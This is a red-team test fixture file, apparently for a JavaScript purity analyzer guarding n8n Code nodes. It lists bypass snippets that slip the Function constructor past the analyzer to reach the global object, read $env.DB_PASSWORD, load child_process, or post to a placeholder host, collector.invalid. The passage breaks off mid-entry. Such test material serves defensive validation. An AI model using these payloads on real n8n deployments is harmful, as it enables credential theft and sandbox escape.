// Round 16 of the code-purity red team, against the points-to analysis (src/validate/purity), treated as a
// black box: only analyzeSource() was called, its source and documentation were not read. Every entry was
// run through ./n8n-sandbox.ts (n8n's runner flags, hardened host) on Node 20, the node24 entries on Node
// 24.21.0 as n8n 2.41.1 runs it (SuppressedError, DisposableStack / using, Promise.withResolvers, iterator helpers).
//
// ROUND16_BYPASSES: the oracle obtains a capability, analyzeSource() returns no finding. 11 classes:
//   primitive-wrapper-store,
//   apply-variadic-args,
//   promise-resolve-identity,
//   promise-finally-passthrough,
//   regexp-call-identity,
//   suppressed-error-fields,
//   host-timer-internals,
//   self-name-binding,
//   builtin-result-store,
//   derived-return-override,
//   arguments-iteration.
// ROUND16_CAUGHT: the oracle obtains a capability and the analysis reports it (attempts it stopped).
// ROUND16_FALSE_POSITIVES: everyday bodies that obtain nothing, which the analysis reports (or throws on).
// ROUND16_PURE: everyday bodies that obtain nothing and that the analysis proves pure.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';
import type { N8nCodeMode } from './n8n-sandbox.js';

export interface Round16Entry extends RedTeamBypass {
  /** The Code node mode the entry was written for (default runOnceForAllItems). */
  mode?: N8nCodeMode;
}

export interface Round16Pure {
  id: string;
  code: string;
  mode?: N8nCodeMode;
  node24?: true;
}

export const ROUND16_BYPASSES: Round16Entry[] = [
  {
    "id": "wrapper/number-prop-F",
    "cls": "primitive-wrapper-store",
    "code": "const box = new Number(0);\nbox.F = (() => 0).constructor;\nconst G = box.F('return this')();\nreturn [{ json: { g: G } }];",
    "why": "A Number, Boolean or String wrapper object made with new (new Number(x), new Boolean(x), new String(s), also through Object.assign onto one) is an ordinary extensible object: a property written to it stays there and is read back. The analysis drops what is written to such a wrapper (it seems to take the wrapper for the primitive, where a write is lost), so what is read back is clean. Here: a property F of new Number(0) holds the Function constructor; it compiles `return this`, the global object is returned."
  },
  {
    "id": "wrapper/boolean-prop-env",
    "cls": "primitive-wrapper-store",
    "code": "const flag = new Boolean(true);\nflag.F = (() => 0).constructor;\nreturn [{ json: { e: flag.F('return $env.DB_PASSWORD')() } }];",
    "why": "A Number, Boolean or String wrapper object made with new (new Number(x), new Boolean(x), new String(s), also through Object.assign onto one) is an ordinary extensible object: a property written to it stays there and is read back. The analysis drops what is written to such a wrapper (it seems to take the wrapper for the primitive, where a write is lost), so what is read back is clean. Here: the same through new Boolean(true); the compiled code reads $env.DB_PASSWORD."
  },
  {
    "id": "wrapper/string-index-http",
    "cls": "primitive-wrapper-store",
    "code": "const s = new String('');\ns[7] = (() => 0).constructor;\nconst G = s[7]('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "A Number, Boolean or String wrapper object made with new (new Number(x), new Boolean(x), new String(s), also through Object.assign onto one) is an ordinary extensible object: a property written to it stays there and is read back. The analysis drops what is written to such a wrapper (it seems to take the wrapper for the primitive, where a write is lost), so what is read back is clean. Here: an index (7, past the string's length) of new String(''); helpers.httpRequest is called."
  },
  {
    "id": "wrapper/assign-require",
    "cls": "primitive-wrapper-store",
    "code": "const n = Object.assign(new Number(1), { F: (() => 0).constructor });\ntry { n.F('return require')()('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "A Number, Boolean or String wrapper object made with new (new Number(x), new Boolean(x), new String(s), also through Object.assign onto one) is an ordinary extensible object: a property written to it stays there and is read back. The analysis drops what is written to such a wrapper (it seems to take the wrapper for the primitive, where a write is lost), so what is read back is clean. Here: Object.assign copies F onto new Number(1); require is called."
  },
  {
    "id": "wrapper/each-item-env",
    "cls": "primitive-wrapper-store",
    "mode": "runOnceForEachItem",
    "code": "const s = new String($json.name ?? '');\ns.F = (() => 0).constructor;\nreturn { json: { e: s.F('return $env.DB_PASSWORD')() } };",
    "why": "A Number, Boolean or String wrapper object made with new (new Number(x), new Boolean(x), new String(s), also through Object.assign onto one) is an ordinary extensible object: a property written to it stays there and is read back. The analysis drops what is written to such a wrapper (it seems to take the wrapper for the primitive, where a write is lost), so what is read back is clean. Here: written for Run Once for Each Item; $env.DB_PASSWORD is read."
  },
  {
    "id": "apply/push-F",
    "cls": "apply-variadic-args",
    "code": "const a = [];\na.push.apply(a, [(() => 0).constructor]);\nreturn [{ json: { g: a[0]('return this')() } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: a.push.apply(a, [F]) then a[0] compiles `return this`."
  },
  {
    "id": "apply/unshift-env",
    "cls": "apply-variadic-args",
    "code": "const a = [];\nArray.prototype.unshift.apply(a, [(() => 0).constructor]);\nreturn [{ json: { e: a[0]('return $env.DB_PASSWORD')() } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: Array.prototype.unshift.apply; $env.DB_PASSWORD is read."
  },
  {
    "id": "apply/splice-http",
    "cls": "apply-variadic-args",
    "code": "const a = [0];\na.splice.apply(a, [0, 1, (() => 0).constructor]);\nawait a[0]('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: the inserted item of splice.apply; helpers.httpRequest is called."
  },
  {
    "id": "apply/concat-F",
    "cls": "apply-variadic-args",
    "code": "const a = [].concat.apply([], [[(() => 0).constructor]]);\nreturn [{ json: { g: a[0]('return this')() } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: concat.apply([], [[F]]) spreads the inner array into the result."
  },
  {
    "id": "apply/array-of-require",
    "cls": "apply-variadic-args",
    "code": "const a = Array.of.apply(Array, [1, (() => 0).constructor]);\ntry { a[1]('return require')()('fs'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: Array.of.apply; require is called."
  },
  {
    "id": "apply/arguments-object-F",
    "cls": "apply-variadic-args",
    "code": "function first() { return arguments[0]; }\nconst F = first.apply(null, [(() => 0).constructor]);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: a function reading arguments[0], called through apply."
  },
  {
    "id": "apply/es5-collect-each-item",
    "cls": "apply-variadic-args",
    "mode": "runOnceForEachItem",
    "code": "function collect() { const out = []; out.push.apply(out, arguments); return out; }\nconst [F] = collect((() => 0).constructor);\nreturn { json: { e: F('return $env.DB_PASSWORD')() } };",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: the ES5 idiom out.push.apply(out, arguments), for Run Once for Each Item; $env.DB_PASSWORD is read."
  },
  {
    "id": "promise-resolve/own-prop-F",
    "cls": "promise-resolve-identity",
    "code": "const p = Promise.resolve(1);\np.F = (() => 0).constructor;\nconst q = Promise.resolve(p);\nreturn [{ json: { g: q.F('return this')() } }];",
    "why": "Promise.resolve(x) returns x itself when x is a promise whose constructor is Promise (spec PromiseResolve step 1), with every property the code put on it. The analysis gives a fresh promise, so a property written on x and read from Promise.resolve(x) is clean. Here: q = Promise.resolve(p) is p; q.F compiles `return this`."
  },
  {
    "id": "promise-resolve/async-result-env",
    "cls": "promise-resolve-identity",
    "code": "const p = (async () => 1)();\np.F = (() => 0).constructor;\nreturn [{ json: { e: Promise.resolve(p).F('return $env.DB_PASSWORD')() } }];",
    "why": "Promise.resolve(x) returns x itself when x is a promise whose constructor is Promise (spec PromiseResolve step 1), with every property the code put on it. The analysis gives a fresh promise, so a property written on x and read from Promise.resolve(x) is clean. Here: the promise of an async call; $env.DB_PASSWORD is read."
  },
  {
    "id": "promise-resolve/call-http",
    "cls": "promise-resolve-identity",
    "code": "const p = new Promise((r) => r(0));\np.F = (() => 0).constructor;\nconst G = Promise.resolve.call(Promise, p).F('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Promise.resolve(x) returns x itself when x is a promise whose constructor is Promise (spec PromiseResolve step 1), with every property the code put on it. The analysis gives a fresh promise, so a property written on x and read from Promise.resolve(x) is clean. Here: Promise.resolve.call(Promise, p) on a new Promise; helpers.httpRequest is called."
  },
  {
    "id": "finally/value-F",
    "cls": "promise-finally-passthrough",
    "code": "const F = await Promise.resolve((() => 0).constructor).finally(() => {});\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Promise.prototype.finally(f) settles with the original value (its thenFinally wraps the value and returns it after f), so await p.finally(...) is what p fulfils with. The analysis does not pass the value through finally, so what comes out of it is clean. Here: await Promise.resolve(F).finally(() => {}) is F."
  },
  {
    "id": "finally/async-fn-env",
    "cls": "promise-finally-passthrough",
    "code": "async function load() { return (() => 0).constructor; }\nconst F = await load().finally(() => {});\nreturn [{ json: { e: F('return $env.DB_PASSWORD')() } }];",
    "why": "Promise.prototype.finally(f) settles with the original value (its thenFinally wraps the value and returns it after f), so await p.finally(...) is what p fulfils with. The analysis does not pass the value through finally, so what comes out of it is clean. Here: finally on an async function's promise; $env.DB_PASSWORD is read."
  },
  {
    "id": "finally/then-http",
    "cls": "promise-finally-passthrough",
    "code": "const G = await Promise.resolve((() => 0).constructor).finally(() => 1).then((f) => f('return this')());\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Promise.prototype.finally(f) settles with the original value (its thenFinally wraps the value and returns it after f), so await p.finally(...) is what p fulfils with. The analysis does not pass the value through finally, so what comes out of it is clean. Here: a then after finally receives F; helpers.httpRequest is called."
  },
  {
    "id": "finally/each-item-require",
    "cls": "promise-finally-passthrough",
    "mode": "runOnceForEachItem",
    "code": "const F = await Promise.resolve((() => 0).constructor).finally(() => 0);\ntry { F('return require')()('child_process'); } catch {}\nreturn { json: { ok: 1 } };",
    "why": "Promise.prototype.finally(f) settles with the original value (its thenFinally wraps the value and returns it after f), so await p.finally(...) is what p fulfils with. The analysis does not pass the value through finally, so what comes out of it is clean. Here: Run Once for Each Item; require is called."
  },
  {
    "id": "regexp-call/regexp-like-F",
    "cls": "regexp-call-identity",
    "code": "const o = RegExp({ [Symbol.match]: true, constructor: RegExp, F: (() => 0).constructor });\nreturn [{ json: { g: o.F('return this')() } }];",
    "why": "RegExp(pattern) called without new returns pattern itself when IsRegExp(pattern) (a truthy Symbol.match, or a real regexp) and pattern.constructor === RegExp, with flags undefined (spec RegExp step 4.b). The analysis gives a fresh regexp, so a property of the pattern read from RegExp(pattern) is clean. Here: a plain object with a truthy Symbol.match and constructor RegExp comes back from RegExp(o)."
  },
  {
    "id": "regexp-call/real-regexp-env",
    "cls": "regexp-call-identity",
    "code": "const re = /x/;\nre.F = (() => 0).constructor;\nreturn [{ json: { e: RegExp(re).F('return $env.DB_PASSWORD')() } }];",
    "why": "RegExp(pattern) called without new returns pattern itself when IsRegExp(pattern) (a truthy Symbol.match, or a real regexp) and pattern.constructor === RegExp, with flags undefined (spec RegExp step 4.b). The analysis gives a fresh regexp, so a property of the pattern read from RegExp(pattern) is clean. Here: a real regexp literal; $env.DB_PASSWORD is read."
  },
  {
    "id": "regexp-call/flags-undefined-http",
    "cls": "regexp-call-identity",
    "code": "const re = /x/g;\nre.F = (() => 0).constructor;\nconst G = RegExp(re, undefined).F('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "RegExp(pattern) called without new returns pattern itself when IsRegExp(pattern) (a truthy Symbol.match, or a real regexp) and pattern.constructor === RegExp, with flags undefined (spec RegExp step 4.b). The analysis gives a fresh regexp, so a property of the pattern read from RegExp(pattern) is clean. Here: RegExp(re, undefined); helpers.httpRequest is called."
  },
  {
    "id": "suppressed/error-F",
    "cls": "suppressed-error-fields",
    "node24": true,
    "code": "const F = new SuppressedError((() => 0).constructor, 1).error;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "new SuppressedError(error, suppressed, message) (Node 24, explicit resource management) stores its first two arguments as the own properties error and suppressed. The analysis has no such flow, so what is read from .error / .suppressed is clean. Here: new SuppressedError(F, 1).error."
  },
  {
    "id": "suppressed/suppressed-env",
    "cls": "suppressed-error-fields",
    "node24": true,
    "code": "const F = new SuppressedError(1, (() => 0).constructor).suppressed;\nreturn [{ json: { e: F('return $env.DB_PASSWORD')() } }];",
    "why": "new SuppressedError(error, suppressed, message) (Node 24, explicit resource management) stores its first two arguments as the own properties error and suppressed. The analysis has no such flow, so what is read from .error / .suppressed is clean. Here: .suppressed; $env.DB_PASSWORD is read."
  },
  {
    "id": "suppressed/call-http",
    "cls": "suppressed-error-fields",
    "node24": true,
    "code": "const G = SuppressedError((() => 0).constructor, 1, 'm').error('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "new SuppressedError(error, suppressed, message) (Node 24, explicit resource management) stores its first two arguments as the own properties error and suppressed. The analysis has no such flow, so what is read from .error / .suppressed is clean. Here: SuppressedError called without new; helpers.httpRequest is called."
  },
  {
    "id": "timers/timeout-timerArgs-F",
    "cls": "host-timer-internals",
    "code": "const t = setTimeout(() => {}, 100000, (() => 0).constructor);\nclearTimeout(t);\nreturn [{ json: { g: t._timerArgs[0]('return this')() } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: setTimeout's Timeout keeps F in _timerArgs."
  },
  {
    "id": "timers/interval-timerArgs-env",
    "cls": "host-timer-internals",
    "code": "const t = setInterval(() => {}, 100000, (() => 0).constructor);\nclearInterval(t);\nreturn [{ json: { e: t._timerArgs[0]('return $env.DB_PASSWORD')() } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: setInterval's Timeout; $env.DB_PASSWORD is read."
  },
  {
    "id": "timers/immediate-argv-http",
    "cls": "host-timer-internals",
    "code": "const t = setImmediate(() => {}, (() => 0).constructor);\nclearImmediate(t);\nawait t._argv[0]('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: setImmediate's Immediate keeps F in _argv; helpers.httpRequest is called."
  },
  {
    "id": "timers/setImmediate-callback-arg-F",
    "cls": "host-timer-internals",
    "code": "const F = await new Promise((resolve) => setImmediate(resolve, (() => 0).constructor));\nreturn [{ json: { g: F('return this')() } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: setImmediate(resolve, F) calls resolve(F)."
  },
  {
    "id": "timers/setImmediate-each-item-env",
    "cls": "host-timer-internals",
    "mode": "runOnceForEachItem",
    "code": "let F;\nawait new Promise((done) => setImmediate((f) => { F = f; done(); }, (() => 0).constructor));\nreturn { json: { e: F('return $env.DB_PASSWORD')() } };",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: a callback parameter of setImmediate, Run Once for Each Item; $env.DB_PASSWORD is read."
  },
  {
    "id": "timers/timeout-unref-identity-F",
    "cls": "host-timer-internals",
    "code": "const t = setTimeout(() => {}, 100000);\nt.F = (() => 0).constructor;\nclearTimeout(t);\nreturn [{ json: { g: t.unref().F('return this')() } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: Timeout.prototype.unref returns the Timeout itself, with the property the code put on it."
  },
  {
    "id": "timers/immediate-ref-identity-env",
    "cls": "host-timer-internals",
    "code": "const t = setImmediate(() => {});\nt.F = (() => 0).constructor;\nclearImmediate(t);\nreturn [{ json: { e: t.ref().F('return $env.DB_PASSWORD')() } }];",
    "why": "The host timers hand the code host objects and calls: setTimeout / setInterval return a Timeout that keeps the extra arguments in _timerArgs, setImmediate an Immediate that keeps them in _argv, and setImmediate passes its extra arguments to the callback; Timeout.prototype.unref / refresh / close and Immediate.prototype.ref / unref return the timer object itself. The analysis follows none of these (it follows setTimeout's and setInterval's callback arguments), so what is read back or received is clean. Here: Immediate.prototype.ref returns the Immediate itself; $env.DB_PASSWORD is read."
  },
  {
    "id": "self-binding/default-param-F",
    "cls": "self-name-binding",
    "code": "const f = function g(x = g.F) { return x; };\nf.F = (() => 0).constructor;\nreturn [{ json: { g: f()('return this')() } }];",
    "why": "A named function expression (function g() {...}) or a named class expression (class K {...}) binds its own name inside its body to itself. The analysis does not resolve that inner binding to the function or class, so a property read through it (g.F, K.F) is clean. Here: the name read in a default parameter of the named function expression."
  },
  {
    "id": "result-store/formatToParts-F",
    "cls": "builtin-result-store",
    "code": "const parts = new Intl.NumberFormat('en-US').formatToParts(1);\nparts.F = (() => 0).constructor;\nreturn [{ json: { g: parts.F('return this')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the array of NumberFormat.prototype.formatToParts."
  },
  {
    "id": "result-store/part-object-env",
    "cls": "builtin-result-store",
    "code": "const [part] = new Intl.DateTimeFormat('en-US').formatToParts(0);\npart.F = (() => 0).constructor;\nreturn [{ json: { e: part.F('return $env.DB_PASSWORD')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: a part object of DateTimeFormat.prototype.formatToParts; $env.DB_PASSWORD is read."
  },
  {
    "id": "result-store/resolvedOptions-http",
    "cls": "builtin-result-store",
    "code": "const opts = Intl.DateTimeFormat().resolvedOptions();\nopts.F = (() => 0).constructor;\nawait opts.F('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the object of resolvedOptions(); helpers.httpRequest is called."
  },
  {
    "id": "result-store/segment-containing-F",
    "cls": "builtin-result-store",
    "code": "const seg = new Intl.Segmenter('en').segment('ab').containing(0);\nseg.F = (() => 0).constructor;\nreturn [{ json: { g: seg.F('return this')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the segment object of Segments.prototype.containing."
  },
  {
    "id": "result-store/supportedValuesOf-require",
    "cls": "builtin-result-store",
    "code": "const list = Intl.supportedValuesOf('currency');\nlist.F = (() => 0).constructor;\ntry { list.F('return require')()('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the array of Intl.supportedValuesOf; require is called."
  },
  {
    "id": "result-store/locale-maximize-F",
    "cls": "builtin-result-store",
    "code": "const loc = new Intl.Locale('en').maximize();\nloc.F = (() => 0).constructor;\nreturn [{ json: { g: loc.F('return this')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the Intl.Locale of maximize()."
  },
  {
    "id": "result-store/regexp-groups-env",
    "cls": "builtin-result-store",
    "code": "const m = /(?<user>[^@]+)@/.exec('ada@example.com');\nm.groups.F = (() => 0).constructor;\nreturn [{ json: { e: m.groups.F('return $env.DB_PASSWORD')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the groups object of a real RegExp exec result; $env.DB_PASSWORD is read."
  },
  {
    "id": "result-store/regexp-indices-F",
    "cls": "builtin-result-store",
    "code": "const m = /(?<a>x)/d.exec('x');\nm.indices.F = (() => 0).constructor;\nreturn [{ json: { g: m.indices.F('return this')() } }];",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the indices array of an exec result with the d flag."
  },
  {
    "id": "result-store/canonical-locales-each-item",
    "cls": "builtin-result-store",
    "mode": "runOnceForEachItem",
    "code": "const locs = Intl.getCanonicalLocales('en-us');\nlocs.F = (() => 0).constructor;\nreturn { json: { e: locs.F('return $env.DB_PASSWORD')() } };",
    "why": "Objects freshly made by a built-in (Intl formatToParts arrays and their part objects, resolvedOptions(), Intl.Segmenter segments and containing(), Intl.Locale maximize(), Intl.supportedValuesOf / getCanonicalLocales arrays, RegExp exec groups / indices) are ordinary mutable objects. The analysis treats them as values that hold nothing, so a property the code writes on one and reads back is clean. Here: the array of Intl.getCanonicalLocales, Run Once for Each Item; $env.DB_PASSWORD is read."
  },
  {
    "id": "return-override/field-into-holder",
    "cls": "derived-return-override",
    "code": "const holder = {};\nclass Base { constructor() { return holder; } }\nclass Stamp extends Base { F = (() => 0).constructor; }\nnew Stamp();\nreturn [{ json: { g: holder.F('return this')() } }];",
    "why": "In a derived class, super() binds this to whatever the base constructor returns when that is an object (spec [[Construct]] step 10 / SuperCall), and new Derived() gives that object: field initializers, private fields and the derived constructor's writes go to it, and its own properties are read through this. The analysis keeps this as a fresh instance, so what flows through the returned object is clean. Here: a field initializer of the derived class writes F onto holder, which Base returned."
  },
  {
    "id": "return-override/this-read-env",
    "cls": "derived-return-override",
    "code": "const holder = { F: (() => 0).constructor };\nclass Base { constructor() { return holder; } }\nclass Child extends Base { constructor() { super(); this.G = this.F; } }\nreturn [{ json: { e: new Child().G('return $env.DB_PASSWORD')() } }];",
    "why": "In a derived class, super() binds this to whatever the base constructor returns when that is an object (spec [[Construct]] step 10 / SuperCall), and new Derived() gives that object: field initializers, private fields and the derived constructor's writes go to it, and its own properties are read through this. The analysis keeps this as a fresh instance, so what flows through the returned object is clean. Here: this after super() is holder, this.F is F; $env.DB_PASSWORD is read."
  },
  {
    "id": "return-override/literal-http",
    "cls": "derived-return-override",
    "code": "class Base { constructor() { return { F: (() => 0).constructor }; } }\nclass Child extends Base {}\nawait new Child().F('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "In a derived class, super() binds this to whatever the base constructor returns when that is an object (spec [[Construct]] step 10 / SuperCall), and new Derived() gives that object: field initializers, private fields and the derived constructor's writes go to it, and its own properties are read through this. The analysis keeps this as a fresh instance, so what flows through the returned object is clean. Here: new Child() is the literal Base returned; helpers.httpRequest is called."
  },
  {
    "id": "return-override/private-stamp",
    "cls": "derived-return-override",
    "code": "class Base { constructor(o) { return o; } }\nclass Tag extends Base { #f = (() => 0).constructor; static read(o) { return o.#f; } }\nconst target = {};\nnew Tag(target);\nreturn [{ json: { g: Tag.read(target)('return this')() } }];",
    "why": "In a derived class, super() binds this to whatever the base constructor returns when that is an object (spec [[Construct]] step 10 / SuperCall), and new Derived() gives that object: field initializers, private fields and the derived constructor's writes go to it, and its own properties are read through this. The analysis keeps this as a fresh instance, so what flows through the returned object is clean. Here: the private-field stamping trick: #f is added to the object Base returned, and read back with o.#f."
  },
  {
    "id": "return-override/each-item-require",
    "cls": "derived-return-override",
    "mode": "runOnceForEachItem",
    "code": "const box = {};\nclass Base { constructor() { return box; } }\nclass Child extends Base { constructor() { super(); this.F = (() => 0).constructor; } }\nnew Child();\ntry { box.F('return require')()('child_process'); } catch {}\nreturn { json: { ok: 1 } };",
    "why": "In a derived class, super() binds this to whatever the base constructor returns when that is an object (spec [[Construct]] step 10 / SuperCall), and new Derived() gives that object: field initializers, private fields and the derived constructor's writes go to it, and its own properties are read through this. The analysis keeps this as a fresh instance, so what flows through the returned object is clean. Here: the derived constructor's this.F = ... lands on box; Run Once for Each Item; require is called."
  },
  {
    "id": "args-iter/spread-F",
    "cls": "arguments-iteration",
    "code": "function all() { return [...arguments]; }\nconst [F] = all((() => 0).constructor);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "An arguments object is iterable (its Symbol.iterator is Array.prototype.values), so spread, for-of and array destructuring of arguments give the call's arguments, in sloppy and strict functions alike, with no parameter written. The analysis follows arguments[i] and Array.from(arguments), but iterating arguments gives nothing, so what comes out is clean. Here: [...arguments] in a function without parameters."
  },
  {
    "id": "args-iter/for-of-env",
    "cls": "arguments-iteration",
    "code": "function first() { for (const x of arguments) return x; }\nconst F = first((() => 0).constructor);\nreturn [{ json: { e: F('return $env.DB_PASSWORD')() } }];",
    "why": "An arguments object is iterable (its Symbol.iterator is Array.prototype.values), so spread, for-of and array destructuring of arguments give the call's arguments, in sloppy and strict functions alike, with no parameter written. The analysis follows arguments[i] and Array.from(arguments), but iterating arguments gives nothing, so what comes out is clean. Here: for (const x of arguments); $env.DB_PASSWORD is read."
  },
  {
    "id": "args-iter/destructure-http",
    "cls": "arguments-iteration",
    "code": "function head() { const [a] = arguments; return a; }\nawait head((() => 0).constructor)('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "An arguments object is iterable (its Symbol.iterator is Array.prototype.values), so spread, for-of and array destructuring of arguments give the call's arguments, in sloppy and strict functions alike, with no parameter written. The analysis follows arguments[i] and Array.from(arguments), but iterating arguments gives nothing, so what comes out is clean. Here: const [a] = arguments; helpers.httpRequest is called."
  },
  {
    "id": "args-iter/strict-spread-call-F",
    "cls": "arguments-iteration",
